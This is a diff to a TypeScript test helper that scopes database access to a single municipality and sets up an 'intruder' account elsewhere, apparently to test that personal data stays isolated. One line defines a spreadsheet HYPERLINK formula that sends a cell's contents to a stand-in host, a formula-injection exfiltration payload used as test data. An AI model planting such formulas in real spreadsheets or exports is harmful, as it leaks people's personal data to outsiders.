@@ -3,6 +3,7 @@ import { expect } from 'vitest';
 import { createAccount } from '../../ledger/accounts/create-account.ts';
 import { ensureMunicipality } from '../../ledger/accounts/municipality.ts';
 import { type Db, openDatabase } from '../../ledger/database.ts';
+import { inMunicipality } from '../../ledger/scope.ts';
 import { createLog } from '../../runtime/log.ts';
 import { Role } from '../../schemas/accounts.ts';
 import { reviewApi } from '../../schemas/api/review.ts';
@@ -15,7 +16,7 @@ const FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"開く")';
 
 export type Target = Readonly<{
   office: ScanOffice;
-  /** As the owner of the database: what is there, whoever may see it. */
+  /** What is there of the municipality, whoever may see it. */
   owner: Db;
   /** Everything written on a sheet of the municipality, or held in its register, that is a person's. */
   secrets: readonly string[];
@@ -36,7 +37,8 @@ export async function openTarget(name: string): Promise<Target> {
   const lines: string[] = [];
   const log = createLog('debug', { write: (line: string) => void lines.push(line) });
   const office = await openScanOffice(name, log);
-  const owner = openDatabase(office.ownerUrl, { max: 2 });
+  const scope = { kind: 'municipality', municipalityId: MUNICIPALITY } as const;
+  const owner = openDatabase(office.ownerUrl, { max: 2, scope });
   await workADay(office);
   await settleElsewhere(office);
   const known = await inTheLedger(owner);
@@ -69,9 +71,11 @@ async function workADay(office: ScanOffice): Promise<void> {
 async function settleElsewhere({ program }: ScanOffice): Promise<void> {
   const context = () => program.operator(ELSEWHERE);
   const town = { municipalityId: ELSEWHERE, name: '試験市', demonstration: true };
-  await ensureMunicipality(program.db, context(), town);
+  await inMunicipality(ELSEWHERE, () => ensureMunicipality(program.db, context(), town));
   const account = { loginName: 'intruder', displayName: 'よその人', password: PASSWORD };
-  await createAccount(program.db, context(), { ...account, roles: Role.options });
+  await inMunicipality(ELSEWHERE, () =>
+    createAccount(program.db, context(), { ...account, roles: Role.options }),
+  );
 }
 
 async function inTheLedger(owner: Db): Promise<string> {
